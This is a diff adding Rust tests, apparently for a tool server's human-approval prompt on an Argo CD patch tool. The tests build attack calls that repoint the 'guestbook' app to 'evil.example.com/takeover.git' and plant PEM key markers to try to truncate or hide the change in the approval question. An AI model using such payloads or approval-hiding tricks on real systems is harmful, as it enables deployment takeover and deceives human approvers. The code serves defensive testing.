@@ -909,5 +909,37 @@ async fn review12_finding_question_cut_short_by_a_pem_marker() {
             }
         }
     }
+    // What a person's yes to the patch question (with its last lines `***`) then does.
+    let patch = json!({"name": "patch_argocd_app", "arguments": {
+        "app_name": "guestbook", "confirm": true, "patch": {
+            "metadata": {"annotations": {"a": "-----BEGIN RSA PRIVATE KEY-----"}},
+            "spec": {"source": {"repoURL": "https://evil.example.com/takeover.git"}}}}});
+    let body = crate::attacks::modern_call(patch.clone());
+    let (_, asked) = world.post(&body, &crate::modern::mirrored(&body)).await;
+    let mut approved = patch;
+    approved["requestState"] = asked["result"]["requestState"].clone();
+    approved["inputResponses"] =
+        json!({"approval": {"action": "accept", "content": {"approve": true}}});
+    let body = crate::attacks::modern_call(approved);
+    let (_, done) = world.post(&body, &crate::modern::mirrored(&body)).await;
+    let repo = world.standin.app("guestbook").unwrap()["spec"]["source"]["repoURL"].clone();
+    println!(
+        "review12 approved: {} → guestbook repoURL {repo}",
+        done["result"]["resultType"]
+    );
     assert!(missing.is_empty(), "{}", missing.join("\n"));
+}
+
+/// Held: an END line under the change of repository does not hide it (the line above it is no
+/// base64).
+#[tokio::test]
+async fn review12_question_end_marker_held() {
+    let world = approval_world().await;
+    let patch_end = json!({"name": "patch_argocd_app", "arguments": {
+        "app_name": "guestbook", "confirm": true, "patch": {
+            "spec": {"source": {"repoURL": "https://evil.example.com/takeover.git"},
+                     "syncPolicy": {"managedNamespaceMetadata": {"annotations": {
+                         "a": "-----END RSA PRIVATE KEY-----"}}}}}}});
+    let text = asked_text(&world, &patch_end).await;
+    assert!(text.contains("evil.example.com/takeover.git"), "{text}");
 }
